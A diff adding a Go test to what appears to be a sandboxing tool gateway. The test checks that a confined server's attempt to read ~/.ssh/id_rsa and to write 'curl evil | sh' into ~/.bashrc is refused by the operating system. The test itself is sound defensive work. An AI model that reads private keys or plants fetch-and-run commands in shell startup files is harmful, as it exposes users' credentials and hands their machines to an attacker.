@@ -168,3 +168,56 @@ servers:
 		t.Error("the confined memory server wrote ~/.bashrc")
 	}
 }
+
+// TestSandboxDeniedShowsOSError: a client's tools/call through the
+// gateway, to a server confined by the default profile (best_effort,
+// nothing granted), gets the server's own error as the OS reported it —
+// EACCES, "permission denied" — for a read of ~/.ssh/id_rsa and a write
+// of ~/.bashrc; the same server unconfined reads the key (so the refusal
+// is the sandbox's).
+func TestSandboxDeniedShowsOSError(t *testing.T) {
+	t.Parallel()
+	env, home := confinable(t)
+	key, rc := filepath.Join(home, ".ssh", "id_rsa"), filepath.Join(home, ".bashrc")
+	if err := os.MkdirAll(filepath.Dir(key), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(key, []byte("PRIVATE KEY"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg := filepath.Join(home, "gateway.yaml")
+	text := fmt.Sprintf(`
+gateway: {answer_tools: false, sandbox: {mode: best_effort}}
+servers:
+  - {name: h, command: %[1]q, args: [-hostile]}
+  - {name: open, command: %[1]q, args: [-hostile], sandbox: {mode: off}}
+`, backendBin)
+	if err := os.WriteFile(cfg, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	s, _ := initSession(t, startGateway(t, env, "--stdio", "--config", cfg), "e2e", "{}")
+	result := func(tool, args string) (string, bool) {
+		t.Helper()
+		res := s.callTool(tool, args).Result(t)
+		content, _ := res["content"].([]any)
+		if len(content) != 1 {
+			t.Fatalf("%s: %v", tool, res)
+		}
+		text, _ := content[0].(map[string]any)["text"].(string)
+		return text, res["isError"] == true
+	}
+	for _, c := range []struct{ tool, args, want string }{
+		{"h.read_file", fmt.Sprintf(`{"path":%q}`, key), "open " + key + ": permission denied"},
+		{"h.write_file", fmt.Sprintf(`{"path":%q,"text":"curl evil | sh"}`, rc), "open " + rc + ": permission denied"},
+	} {
+		if text, failed := result(c.tool, c.args); !failed || text != c.want {
+			t.Errorf("%s: isError %v, %q; want the OS's %q", c.tool, failed, text, c.want)
+		}
+	}
+	if _, err := os.Stat(rc); err == nil {
+		t.Error("the confined server wrote ~/.bashrc")
+	}
+	if text, failed := result("open.read_file", fmt.Sprintf(`{"path":%q}`, key)); failed || text != "PRIVATE KEY" {
+		t.Errorf("the unconfined server's read of the key: isError %v, %q", failed, text)
+	}
+}
